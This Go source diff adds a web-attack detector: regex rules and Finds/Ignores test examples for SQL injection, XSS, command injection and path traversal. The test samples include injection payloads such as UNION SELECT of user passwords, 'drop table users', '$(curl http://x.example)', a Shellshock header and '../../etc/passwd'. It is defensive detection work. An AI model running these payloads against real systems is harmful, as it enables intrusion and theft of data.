@@ -1,0 +1,240 @@
+package attack
+
+// Shared pieces of expressions. All text is lower case with single spaces.
+const (
+	quote = "['\"`]"
+)
+
+var injectionKinds = []Kind{
+	{
+		ID: SQLInjection, Name: "sql_injection", Title: "SQL injection",
+		rules: []rule{
+			{words: "union",
+				form: `\bunion\b[\s(+]*(?:all|distinct)?[\s(+]*select\b[\s(+]*(?:null|-?\d|@@|'|"|\*|char\b|concat|` +
+					`\w+\s*\(|[\w.]+\s*(?:,\s*[\w.]+)*\s+from\b)`},
+			{words: "or and || && xor like =", need: "'\"`", form: quote +
+				`\s*\)*\s*(?:or|and|xor|\|\||&&)\s*\(*\s*(?:not\s+)?` +
+				`['"]?[\w@.-]*['"]?\s*\)*\s*(?:=|<|>|!|like\b|between\b|in\s*\(|is\b|rlike\b|regexp\b)`, check: breaksOut},
+			{words: "or and ||", need: "'\"`", form: quote +
+				`\s*\)*\s*(?:or|and|\|\|)\s+(?:true|1|not\s|exists\s*\(|\(?select\b|sleep\b|` +
+				`\d+\s*(?:--|#|$))`, check: breaksOut},
+			{words: "or and", need: "=",
+				form:  `^-?\d+['")]*\s+(?:or|and)\s+\(*['"]?-?\w{1,12}['"]?\s*(?:=|like)\s*['"]?-?\w{1,12}`,
+				check: short},
+			{words: "or~1=1 or~1~=~1 or~true-- and~1=1 and~1=2", form: `\b(?:or|and)\s+(?:1\s*=\s*[12]|true\s*--)`,
+				check: short},
+			{words: "drop delete insert update select exec waitfor shutdown truncate alter declare", need: ";",
+				form: `;\s*(?:drop\s+(?:table|database|schema)\b|delete\s+from\b|insert\s+into\b|update\s+\w+\s+set\b|` +
+					`select\b.{0,80}\b(?:from|sleep|version|user)|exec(?:ute)?[\s(]+\w*(?:xp_|sp_|immediate)|waitfor\s+delay|shutdown\b|` +
+					`truncate\s+table|alter\s+table|declare\s+@)`, check: short},
+			{words: "sleep(",
+				form:  `(?:\band\b|\bor\b|\bselect\b|\bif\s*\(|\bxor\b|['"+\-|&,(*])\s*\(*\s*(?:select\s+)?sleep\s*\(\s*\d+`,
+				check: short},
+			{words: "benchmark( pg_sleep( waitfor~delay dbms_pipe.receive_message( dbms_lock.sleep( randomblob(",
+				form: `\b(?:benchmark\(\s*\d+\s*,|pg_sleep\(|waitfor delay\s*'|dbms_pipe\.receive_message\(|dbms_lock\.sleep\(|` +
+					`randomblob\(\s*\d{5,})`, check: short},
+			{words: "information_schema sqlite_master sysobjects pg_catalog mysql.user all_tables user_tables syscolumns",
+				form: `\b(?:from|into|join)\s+[\x60"\[(]*(?:information_schema|sqlite_master|(?:\w+\.\.)?sysobjects|pg_catalog|mysql\.user|` +
+					`all_tables|user_tables|syscolumns)\b`, check: short},
+			{words: "extractvalue( updatexml( xp_cmdshell xp_dirtree utl_inaddr utl_http load_file( into~outfile into~dumpfile",
+				form: `\b(?:extractvalue\s*\(\s*\w+\s*,\s*concat|updatexml\s*\(\s*\w+\s*,\s*concat|xp_cmdshell|xp_dirtree|utl_inaddr\.|` +
+					`utl_http\.request|load_file\s*\(\s*(?:'|"|0x|char)|into (?:out|dump)file\s*['"])`, check: short},
+			{words: "order~by group~by having",
+				form: `(?:^[\w-]*['"]\)*|^-?\d+\)*)\s+(?:order|group)\s+by\s+\d+(?:\s*,\s*\d+)*\s*(?:--|#|$)` +
+					`|['")]\s*having\s+\d+\s*=\s*\d+`, check: short},
+			{words: "substring( substr( ascii( mid( ord(",
+				form: `(?:\band\b|\bor\b|\bselect\b|,|\()\s*\(*(?:ascii|ord|substr(?:ing)?|mid)\s*` +
+					`\(\s*\(?\s*(?:select\b|(?:ascii|substr(?:ing)?|mid|database|user|version)\s*\()`, check: short},
+			{words: "--", need: "'\"`", form: `^[^'"\s]{0,40}['"]\s*\)*\s*(?:;\s*)?--(?:\s|$|-|\+)`, check: short},
+			{words: "# /*", need: "'\"`", form: `^[\w.@-]{0,40}['"]\s*\)*\s*(?:#\s*|/\*.*|;\s*#?)$`, check: quoteLast},
+			{words: "concat(0x char( chr( 0x", form: `\bconcat\s*\(\s*0x[0-9a-f]+|\bchar\(\d+\)\s*(?:\+|\|\|)\s*char\(\d+\)|` +
+				`\bchr\(\d+\)\s*\|\|\s*chr\(\d+\)`, check: short},
+			{words: "$where $ne $gt $regex $nin $exists",
+				form:  `\[\s*\$(?:where|ne|gt|gte|lt|regex|nin|in|exists)\s*\]|^\$(?:where|ne|gt|gte|lt|regex|nin|exists)$`,
+				where: inKey},
+		},
+		Finds: []Example{
+			q("id=1%20UNION%20SELECT%20null,username,password%20FROM%20users"), q("name=%27%20or%20%271%27%3D%271"),
+			q("id=1+or+1%3D1"),
+			j(`{"user":"admin'--","pass":"x"}`), q("id=1;drop%20table%20users"), q("id=1%20and%20sleep(5)"),
+			q("id=1'/**/union/**/all/**/select/**/1,2,3--"), q("q=1'%20AND%20extractvalue(1,concat(0x7e,version()))--"),
+			form("user=%22+or+%22%22%3D%22&x=1"), q("id=-1)%20or%20(1=1"), q("u[$ne]=x"), q("id=1%2527%2520or%25201%253D1--"),
+			h("X-Forwarded-For: 1' or sleep(5)#"), q("id=1' order by 10--"),
+		},
+		Ignores: []Example{
+			j(`{"name":"O'Brien and sons","city":"L'Aquila"}`), q("q=trade+union+select+committee+on+work"),
+			q("q=select+a+hotel+from+the+list"),
+			j(`{"filter":"status = 'open' and priority > 3"}`), j(`{"text":"It's 5 or 6 o'clock -- I don't know"}`),
+			j(`{"code":"for i in range(3):\n  time.sleep(5)\n"}`), q("q=2+and+3+%3E+1+or+x%3D2"), q("q=drop+table+tennis"),
+			j(`{"sig":"b3IgMT0xIC0tICdvciAxPTEn","n":1}`), q("q=rock+%27n%27+roll+or+jazz"),
+			q("q=%22exact+phrase%22+or+other"),
+			j(`{"note":"the 'new' and 'old' is fine"}`), j(`{"await":"await sleep(500)"}`), q("q=group+by+group"),
+		},
+	},
+	{
+		ID: XSS, Name: "xss", Title: "XSS",
+		rules: []rule{
+			{words: "<script </script", form: `<\s*/?\s*script(?:[\s/>]|$)`},
+			{words: "onerror onload onmouse onfocus onclick ontoggle onstart onpointer onanimation onblur onkey onbegin oninput onsubmit " +
+				"onchange ondrag onwheel onresize onscroll onpage onhash onsearch oncopy oncut onpaste ontransition onunload onmessage " +
+				"onended onplay oncanplay onshow onfinish onbefore onafter ontouch oncontext ondbl onabort",
+				form: `<[a-z][^<>]{0,400}[\s/'"]on[a-z]{3,24}\s*=`},
+			{words: "onerror onload onmouse onfocus onclick ontoggle onpointer onanimation onblur onkey oninput",
+				form:  `['"\x60]\s*[^<>'"]{0,40}\bon(?:error|load|mouse\w+|focus\w*|click|toggle|pointer\w+|animation\w+|blur|key\w+|input)\s*=\s*['"\x60]?\s*[\w.$]+\s*[(\x60=]`,
+				check: short},
+			{words: "javascript: vbscript: livescript:",
+				form: `(?:=\s*['"\x60]?|^|\()\s*(?:javascript|vbscript|livescript)\s*:\s*(?:[\w.$]+\s*[(\x60=\[]|/[/*]|%0a|void\b|['"\x60({\[])`},
+			{words: "javas script:", form: `j\s?a\s?v\s?a\s?s\s?c\s?r\s?i\s?p\s?t\s?:\s*(?:alert|eval|prompt|confirm)`},
+			{words: "data:text/html", form: `data:text/html[;,]`, check: short},
+			{words: "srcdoc", form: `<iframe\b[^>]*\bsrcdoc\s*=`},
+			{words: "http-equiv", form: `<meta\b[^>]*http-equiv[^>]*refresh[^>]*(?:javascript|data):`},
+			{need: "'\"`", words: "alert prompt confirm eval( document.cookie document.domain fromcharcode constructor",
+				form:  `['"\x60]\s*\)*\s*[;+\-*/^|&,%]+\s*(?:alert|prompt|confirm|eval|fetch|document\.|window\.|string\.fromcharcode|\(?\[?\]?\.constructor)`,
+				check: breaksOut},
+			{words: "alert( prompt( confirm( alert`",
+				form: `[>}]\s*(?:alert|prompt|confirm)\s*(?:\(\s*['"\d]{0,8}\w{0,12}|\x60)`, check: alone},
+			{words: "-moz-binding expression( behavior:url",
+				form: `style\s*=.{0,80}(?:-moz-binding|expression\s*\(|behaviou?r\s*:\s*url)`},
+		},
+		Finds: []Example{
+			q("q=%3Cscript%3Ealert(1)%3C/script%3E"), j(`{"c":"<img src=x onerror=alert(1)>"}`),
+			q("u=javascript:alert(document.cookie)"),
+			q("q=%22%20onmouseover=%22alert(1)"), j(`{"c":"<svg/onload=prompt(1)>"}`), q("q=%27-alert(1)-%27"),
+			q("q=%253Cscript%253E1"),
+			form("c=%26%23x3c%3Bscript%26%23x3e%3B"), j(`{"bio":"<a href=\"javascript:eval('x')\">a</a>"}`),
+			p("/x/%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+		},
+		Ignores: []Example{
+			j(`{"html":"<p>Hello <b>world</b>, 3 < 5</p>"}`), j(`{"t":"JavaScript: the good parts (2008)"}`),
+			q("q=a%3Cb+and+c%3Ed"),
+			j(`{"code":"if (a < b) { return \"x\"; }"}`), j(`{"t":"He said \"confirm\"; alert everyone"}`),
+			q("q=on+load+balancing%3D1"),
+			j(`{"html":"<iframe src=\"https://video.example.com/embed/1\"></iframe>"}`), q("q=script+writing+%3C+3"),
+			q("online=true&once=1"),
+		},
+	},
+	{
+		ID: CommandInjection, Name: "command_injection", Title: "Command injection",
+		rules: []rule{
+			{words: "whoami ifconfig ipconfig netstat uname wget curl nslookup certutil powershell /bin/ cat ls id nc ncat bash sh python " +
+				"perl php ruby ping sleep rm chmod type dir cmd find dig printenv base64 touch telnet", need: ";|`\n&$",
+				form:  `(?:[;|\x60\n]|\$\(|&&?)\s*(?:sudo\s+)?` + commands,
+				check: notProse},
+			{words: "${ifs} $ifs", form: `\$\{?ifs\b`},
+			{words: "/dev/tcp/", form: `/dev/(?:tcp|udp)/[\w.$]+/\d`},
+			{words: "()~{", form: `\(\)\s*\{\s*[:_\w]?\s*;?.{0,40}\}\s*;`, check: short},
+			{words: "/bin/sh /bin/bash cmd.exe", form: `(?:^|[\s=;|&(\x60])(?:/bin/(?:ba)?sh\s+-[ic]|cmd(?:\.exe)?\s+/c\s)`,
+				check: short},
+			{words: "$(",
+				form:  `\$\(\s*(?:id|whoami|uname|cat|ls|curl|wget|sleep|nslookup|ping|printenv|env|expr|echo)\b[^)]{0,80}\)`,
+				check: short},
+		},
+		Finds: []Example{
+			q("host=127.0.0.1;cat%20/etc/passwd"), q("ip=1.1.1.1%7Cid"), q("f=a%26%26whoami"), q("n=x%60id%60"),
+			q("n=$(curl%20http://x.example)"),
+			j(`{"host":"8.8.8.8; ping -c 3 x.example"}`), h("User-Agent: () { :;}; /bin/bash -c 'id'"),
+			q("c=cat$%7BIFS%7D/etc/hosts"), q("ip=1%0Auname%20-a"),
+		},
+		Ignores: []Example{
+			q("q=salt+%26+pepper"), j(`{"t":"cats; dogs & find out; sleep well"}`),
+			j("{\"md\":\"run `ls -la` first, then `curl`\"}"),
+			q("q=R%26B+%7C+cat+food"), j(`{"t":"A & Echo Park | id card | type of person"}`), j(`{"t":"ls; sh; ping me
+				later"}`),
+			j(`{"price":"$(12.50)"}`), j(`{"readme":"Install:\n\n    curl -fsSL https://get.example.com | sh\n\nThen run the
+				tool and read the manual for more of the same."}`),
+		},
+	},
+	{
+		ID: CoreFileAccess, Name: "core_file_access", Title: "Illegal access to core files",
+		rules: []rule{
+			{words: "../ ..\\", form: `(?:^|[^.\w])(?:\.\.[/\\]+){2,}`, where: inValue, check: pathLike},
+			{words: "../ ..\\",
+				form:  `\.\.[/\\]+(?:[\w.\\/-]*)(?:etc[/\\]|proc[/\\]|windows|winnt|web-inf|\.ssh|boot\.ini|\.env|\.git|passwd|config)`,
+				where: inValue | inPath, check: pathLike},
+			{words: "../ ..\\ ..;/ ....//", form: `(?:\.\.[/\\]+){2,}|\.\.;/|\.{4}//`, where: inPath},
+			{words: "/etc/ /proc/ win.ini boot.ini c:\\ c:/ /root/ .ssh/ /var/log",
+				form: `(?:^|[=:;,|<>('"\\/])/?/?(?:etc/+(?:passwd|shadow|group|gshadow|sudoers|hosts|crontab|issue|fstab|ssh/|my\.cnf|nginx/|apache2?/|httpd/|` +
+					`php|resolv\.conf|environment)|proc/+(?:self|version|cpuinfo|\d+)|root/+\.|var/log/+(?:auth|apache|nginx|syslog|secure|messages))`,
+				where: inValue | inPath, check: pathLike},
+			{words: "win.ini boot.ini \\system32 /system32 c:\\windows c:/windows",
+				form:  `c:[/\\]+(?:windows|winnt|boot\.ini|inetpub)|[/\\](?:win|boot)\.ini\b|[/\\]system32[/\\]`,
+				where: inValue | inPath, check: pathLike},
+			{words: "php:// file:/// expect:// phar:// zip:// glob://",
+				form: `^\s*(?:php://(?:filter|input)|file:///|expect://|phar://|zip://|glob://)`},
+			{words: "/.git/ /.svn/ /.env /.htpasswd /.htaccess web-inf/ wp-config .aws/ id_rsa .bash_history /.ds_store /.hg/ .npmrc",
+				form: `/\.(?:git/(?:config|head|index|logs|objects|refs)|svn/(?:entries|wc\.db)|hg/|env(?:$|[./])|htpasswd|htaccess|aws/credentials|ssh/|bash_history|` +
+					`npmrc|ds_store|dockerenv)|web-inf/(?:web\.xml|classes|lib)|wp-config\.php|/id_(?:rsa|ed25519)`, where: inPath},
+			{words: "web-inf/ wp-config .ssh/id .aws/credentials",
+				form: `web-inf/web\.xml|wp-config\.php|\.ssh/id_|\.aws/credentials`, check: pathLike},
+			{words: ".sql .bak .zip .tar .old .swp .rar .7z",
+				form: `/(?:backup|dump|db|database|www|wwwroot|site|web|html|bak|old|data|config|index)[\w.-]{0,20}` +
+					`\.(?:sql|bak|zip|tar|tar\.gz|tgz|rar|7z|old|swp|gz)$`, where: inPath},
+		},
+		Finds: []Example{
+			q("file=../../../../etc/passwd"), p("/static/..%2f..%2f..%2fetc/passwd"), q("f=/etc/shadow"),
+			q("p=php://filter/convert.base64-encode/resource=index"),
+			p("/.git/config"), p("/.env"), q("f=C:%5CWindows%5Cwin.ini"), j(`{"path":"..\\..\\..\\windows\\win.ini"}`),
+			p("/backup.sql"),
+			q("f=..%252f..%252fetc%252fpasswd"), q("page=file:///etc/hosts"), p("/WEB-INF/web.xml"),
+		},
+		Ignores: []Example{
+			j(`{"t":"edit /etc/hosts and restart"}`), j(`{"code":"import x from '../../utils'; run()"}`),
+			p("/docs/files/config"), q("q=etc/+and+so+on"),
+			p("/envelopes/1"), q("range=1../5"), p("/git/config"), j(`{"t":"and so on... / or else"}`),
+			p("/.well-known/jwks.json"), q("f=report.zip"),
+		},
+	},
+}
+
+// commands are shell commands with arguments that no sentence has.
+const commands = `(?:whoami\b|ifconfig\b|ipconfig\b|netstat\s+-|uname(?:\s+-|\s*(?:$|[;|&\x60)]))|wget\s+(?:-|https?:|\$|[\w-]+\.\w)|` +
+	`curl\s+(?:-|https?:|\$|[\w-]+\.\w)|nslookup\s+\S|certutil\s+-|powershell(?:\.exe)?\s+-|/(?:usr/)?bin/\w+|` +
+	`cat\s+(?:/|\.\.|\$|\w+\.(?:php|conf|txt|env|xml|py)\b)|ls\s+(?:-|/|\.\.)|ls\s*(?:$|[;|\x60)])|id\s*(?:$|[;|\x60)#])|nc\s+-|ncat\s+-|bash\s+-|sh\s+-[ci]|` +
+	`python\d?\s+-c|perl\s+-e|php\s+-r|ruby\s+-e|ping\s+(?:-|\d+\.|[\w-]+\.\w+$)|sleep\s+\d+\s*(?:$|[;|&#\x60)])|rm\s+-|chmod\s+(?:\+|\d{3})|` +
+	`type\s+[a-z]:\\|dir\s+[a-z]:\\|dir\s*$|cmd(?:\.exe)?\s*/c|find\s+/|dig\s+(?:\+|@|[\w-]+\.\w)|printenv\b|base64\s+-|touch\s+/|telnet\s+\d)`
+
+// notProse rejects commands of documents: long texts, and backticks set off by spaces as
+// in Markdown.
+func notProse(text []byte, at, end int) bool {
+	if len(text) > 200 {
+		return false
+	}
+	if text[at] == '\n' && len(text) > 80 {
+		return false // a script in a text, not a line smuggled into a parameter
+	}
+	if text[at] == '`' {
+		return at > 0 && text[at-1] != ' ' && text[at-1] != '(' || at == 0 && end < len(text) && text[len(text)-1] == '`'
+	}
+	if (text[at] == '|' || text[at] == '&' || text[at] == ';') && at > 0 && text[at-1] == ' ' && at+1 < len(text) &&
+		text[at+1] == ' ' {
+		return hasShellArgument(text[at:end])
+	}
+	return true
+}
+
+// hasShellArgument reports marks that words of a sentence do not have.
+func hasShellArgument(text []byte) bool {
+	for i, c := range text {
+		if c == '/' || c == '$' || c == '-' && i > 0 && text[i-1] == ' ' || c >= '0' && c <= '9' {
+			return true
+		}
+	}
+	return false
+}
+
+// quoteLast reports a value with a single quote, at its end: "admin'#".
+func quoteLast(text []byte, at, end int) bool {
+	n := 0
+	for _, c := range text {
+		if c == '\'' || c == '"' {
+			n++
+		}
+	}
+	last := text[len(text)-1]
+	return n == 1 && (last == '#' || len(text) > 2 && text[len(text)-1] == '*' || last == '/')
+}
+
+// alone reports a short value that is little more than the match.
+func alone(text []byte, at, end int) bool {
+	return len(text) <= 60 && text[len(text)-1] == ')' || text[len(text)-1] == '`'
+}
